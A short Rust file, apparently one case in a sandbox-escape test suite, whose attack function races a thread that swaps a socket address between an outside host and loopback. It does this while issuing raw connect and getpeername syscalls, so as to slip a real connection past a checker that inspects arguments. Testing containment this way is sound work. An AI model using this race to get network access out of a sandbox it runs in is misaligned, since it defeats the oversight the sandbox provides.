//! Changes the address of a connection while the grader looks at it.
//!
//! Held by: loopback.

use super::sys::{away_bytes, call, works};

pub fn attack() -> bool {
    use std::sync::atomic::{AtomicBool, AtomicU32, Ordering};
    // The address of a connection: family and port, then the bytes that change.
    static ADDRESS: [AtomicU32; 4] = [const { AtomicU32::new(0) }; 4];
    static DONE: AtomicBool = AtomicBool::new(false);
    let away = away_bytes();
    let word = |at: usize| u32::from_ne_bytes(away[at..at + 4].try_into().unwrap());
    ADDRESS[0].store(word(0), Ordering::SeqCst);
    let (there, here) = (word(4), u32::from_ne_bytes([127, 0, 0, 1]));
    let swapping = std::thread::spawn(move || {
        while !DONE.load(Ordering::Relaxed) {
            ADDRESS[1].store(there, Ordering::Relaxed);
            ADDRESS[1].store(here, Ordering::Relaxed);
        }
    });
    let address = ADDRESS.as_ptr() as usize;
    let reached = (0..100).any(|_| {
        let socket = call(41, &[2, 1, 0]) as usize;
        let mut peer = [0_u8; 16];
        let mut length = 16_u32;
        let (into, size) = (peer.as_mut_ptr() as usize, &raw mut length as usize);
        let made = works(42, &[socket, address, 16]) && works(52, &[socket, into, size]);
        works(3, &[socket]);
        made && peer[4] != 127
    });
    DONE.store(true, Ordering::Relaxed);
    let _ = swapping.join();
    reached
}
